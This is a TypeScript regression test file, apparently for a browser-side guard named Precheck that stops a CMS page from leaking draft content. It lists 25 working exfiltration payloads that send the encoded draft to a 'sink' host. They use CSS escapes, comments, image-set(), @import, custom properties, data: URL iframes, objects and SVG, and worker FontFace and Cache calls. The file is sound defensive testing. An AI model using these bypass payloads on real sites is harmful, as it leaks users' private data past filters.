/**
 * The eleventh probe (2026-12-06, a helper in real Chromium), kept as a test: what the browser parses
 * and then loads by itself. Each case delivers the ID on the control host, and each delivered it with
 * Precheck too with the build before its fix (25 of 25, 2e90fd9). The guard read CSS with patterns
 * over unescaped text, where the browser's tokenizer reads escapes, comments, nesting and strings
 * that reach var() from anywhere (now lib/gate/css-urls.ts tokenizes); a data: URL's document or
 * stylesheet was never read (lib/gate/data-url.ts); a worker's FontFace and Cache.add/addAll were not
 * hooked (hooks/worker-prelude.ts). What the probe found held already is in README's gate section.
 */
import { describe, test } from 'vitest';
import { probePage } from './probe-page.ts';

const { expectCleanArrives, expectDeliveredOnlyWithout } = probePage();

/** Page helpers: the draft percent-encoded, a box in the page, a wait until its style has loaded. */
const PRE = String.raw`
  const enc = encodeURIComponent(draft);
  const box = (cls) => { const el = document.createElement('div'); el.style.width = '40px'; el.style.height = '40px'; if (cls) el.className = cls; document.body.append(el); return el; };
  const paint = async (el) => { getComputedStyle(el).backgroundImage; await new Promise((r) => requestAnimationFrame(() => setTimeout(r, 700))); };
  const styleEl = (text) => { const s = document.createElement('style'); s.textContent = text; document.head.append(s); return s; };
`;
const page = (code: string) => PRE + code;

const CSS_CASES: [label: string, code: string][] = [
  [
    "unquoted url() with an escaped ')' before the draft (el.style.backgroundImage)",
    String.raw`const el = box(); el.style.backgroundImage = 'url(' + sink('p11-url-paren') + '?a=\\)&content=' + enc + ')'; await paint(el);`,
  ],
  [
    "unquoted url() with an escaped ')' before the draft (a <style>'s text)",
    String.raw`styleEl('.p11a{background-image:url(' + sink('p11-url-paren-style') + '?a=\\)&content=' + enc + ')}'); await paint(box('p11a'));`,
  ],
  [
    'unquoted url() with an escaped space before the draft (el.style.backgroundImage)',
    String.raw`const el = box(); el.style.backgroundImage = 'url(' + sink('p11-url-space') + '?a=\\ &content=' + enc + ')'; await paint(el);`,
  ],
  [
    "image-set(\"…\") whose string holds a ')' before the draft",
    String.raw`const el = box(); el.style.backgroundImage = 'image-set("' + sink('p11-iset-paren') + '?a=)&content=' + enc + '" 1x)'; await paint(el);`,
  ],
  [
    'image-set() with a gradient first: the string after it',
    String.raw`const el = box(); el.style.backgroundImage = 'image-set(linear-gradient(red, red) 2x, "' + sink('p11-iset-grad') + '?content=' + enc + '" 1x)'; await paint(el);`,
  ],
  [
    'image-set() with a type() first: the string after it',
    String.raw`const el = box(); el.style.backgroundImage = 'image-set("/none.p11" type("image/x-none") 1x, "' + sink('p11-iset-type') + '?content=' + enc + '" 1x)'; await paint(el);`,
  ],
  [
    '@import"…" without a space (a <style>\'s text)',
    String.raw`styleEl('@import"' + sink('p11-import-nospace') + '?content=' + enc + '";'); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    '@import/**/"…" (a comment in place of the space)',
    String.raw`styleEl('@import/**/"' + sink('p11-import-comment') + '?content=' + enc + '";'); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    '@import "…" with an escaped quote before the draft',
    String.raw`styleEl('@import "' + sink('p11-import-quote') + '?a=\\"&content=' + enc + '";'); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    "a custom property's string with a ';' before the draft, used by image-set(var())",
    String.raw`const el = box(); el.style.cssText = 'width:40px;height:40px;--s:"' + sink('p11-custom-semi') + '?a=;&content=' + enc + '";background-image:image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    'setProperty of a custom property whose string holds a \'}\' before the draft, used by image-set(var())',
    String.raw`const el = box(); el.style.setProperty('--s', '"' + sink('p11-custom-brace') + '?a=}&content=' + enc + '"'); el.style.backgroundImage = 'image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    "a custom property written '--s/**/:' (a comment before the colon), used by image-set(var())",
    String.raw`const el = box(); el.style.cssText = 'width:40px;height:40px;--s/**/:"' + sink('p11-custom-comment') + '?content=' + enc + '";background-image:image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    "an @property rule's initial-value string, used by image-set(var())",
    String.raw`styleEl('@property --p11s{syntax:"*";inherits:false;initial-value:"' + sink('p11-atproperty') + '?content=' + enc + '"} .p11b{background-image:image-set(var(--p11s) 1x)}'); await paint(box('p11b'));`,
  ],
  [
    "Typed OM: attributeStyleMap.set('--s', string), used by image-set(var())",
    String.raw`const el = box(); el.attributeStyleMap.set('--s', '"' + sink('p11-typedom-custom') + '?content=' + enc + '"'); el.style.backgroundImage = 'image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    "markup: a style attribute (innerHTML) whose unquoted url() has an escaped ')' before the draft",
    String.raw`const d = document.createElement('div'); d.innerHTML = '<div style="width:40px;height:40px;background-image:url(' + sink('p11-markup-paren') + '?a=\\)&content=' + enc + ')"></div>'; document.body.append(d); await paint(d.firstChild);`,
  ],
  [
    "CSS.registerProperty with a string initialValue (no url()), used by image-set(var())",
    String.raw`CSS.registerProperty({ name: '--p11r', syntax: '*', inherits: false, initialValue: '"' + sink('p11-register-string') + '?content=' + enc + '"' });
     const el = box(); el.style.backgroundImage = 'image-set(var(--p11r) 1x)'; await paint(el);`,
  ],
  [
    '<link rel=stylesheet> to a data: URL whose @import names the draft',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'data:text/css,' + encodeURIComponent('@import url("' + sink('p11-data-link') + '?content=' + enc + '");'); document.head.append(l); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    "a <style>'s @import of a data: stylesheet whose own @import names the draft",
    String.raw`styleEl('@import url("data:text/css,' + encodeURIComponent('@import url("' + sink('p11-data-import') + '?content=' + enc + '");') + '");'); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    '<object> whose data is a data: HTML document holding an <img> with the draft',
    String.raw`const o = document.createElement('object'); o.width = 50; o.height = 50; o.data = 'data:text/html,' + encodeURIComponent('<img src="' + sink('p11-data-object') + '?content=' + enc + '">'); document.body.append(o); await new Promise((r) => setTimeout(r, 1000));`,
  ],
  [
    '<iframe> whose src is a data: HTML document holding an <img> with the draft (no script in it)',
    String.raw`const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent('<img src="' + sink('p11-data-iframe') + '?content=' + enc + '">'); document.body.append(f); await new Promise((r) => setTimeout(r, 1000));`,
  ],
  [
    '<embed> whose src is a data: SVG document holding an <image> with the draft',
    String.raw`const e = document.createElement('embed'); e.type = 'image/svg+xml'; e.width = 50; e.height = 50; e.src = 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><image href="' + sink('p11-data-embed') + '?content=' + enc + '" width="10" height="10"/></svg>'); document.body.append(e); await new Promise((r) => setTimeout(r, 1000));`,
  ],
  [
    'markup: an SVG <style> whose @import names the draft as character references (foreign content decodes them)',
    String.raw`const refs = Array.from(sink('p11-svg-style') + '?content=' + enc, (c) => '&#' + c.charCodeAt(0) + ';').join('');
     const d = document.createElement('div'); d.innerHTML = '<svg><style>@import "' + refs + '";</style></svg>'; document.body.append(d); await new Promise((r) => setTimeout(r, 700));`,
  ],
];

const OTHER_CASES: [label: string, code: string][] = [
  [
    "a worker's FontFace loaded (self.fonts)",
    String.raw`return await inWorker("const f = new FontFace('p11w', 'url(' + sink('p11-worker-font') + '?content=' + encodeURIComponent(draft) + ')'); self.fonts.add(f); await f.load().catch(() => {});");`,
  ],
  [
    "a worker's Cache.add (caches.open in the worker)",
    String.raw`return await inWorker("const c = await caches.open('p11'); await c.add(sink('p11-worker-cache') + '?content=' + encodeURIComponent(draft)).catch(() => {});");`,
  ],
  [
    "a worker's Cache.addAll",
    String.raw`return await inWorker("const c = await caches.open('p11b'); await c.addAll([sink('p11-worker-cacheall') + '?content=' + encodeURIComponent(draft)]).catch(() => {});");`,
  ],
];

describe('CSS as the browser tokenizes it, and data: documents and stylesheets', () => {
  test.each(CSS_CASES)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(page(code), 84)));
});

describe("a worker's loaders", () => {
  test.each(OTHER_CASES)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(page(code), 85)));
});

describe('the CMS keeps working', () => {
  test('a clean unquoted url() with an escaped character still loads', async () => {
    await expectCleanArrives(page(String.raw`const el = box(); el.style.backgroundImage = 'url(' + sink('p11-clean-url') + '?v=1\\)2)'; await paint(el);`));
  });
  test("a clean Typed OM background-image still loads", async () => {
    await expectCleanArrives(page(String.raw`const el = box(); el.attributeStyleMap.set('background-image', CSSStyleValue.parse('background-image', 'url("' + sink('p11-clean-typedom') + '?v=' + Date.now() + '")')); await paint(el);`));
  });
  test("a clean image-set() with a gradient first still loads", async () => {
    await expectCleanArrives(page(String.raw`const el = box(); el.style.backgroundImage = 'image-set(linear-gradient(red, red) 2x, "' + sink('p11-clean-iset') + '?v=2" 1x)'; await paint(el);`));
  });
  test("a worker's clean Cache.add still fetches", async () => {
    await expectCleanArrives(page(String.raw`return await inWorker("const c = await caches.open('p11c'); await c.add(sink('p11-clean-cache') + '?v=3').catch(() => {});");`));
  });
});
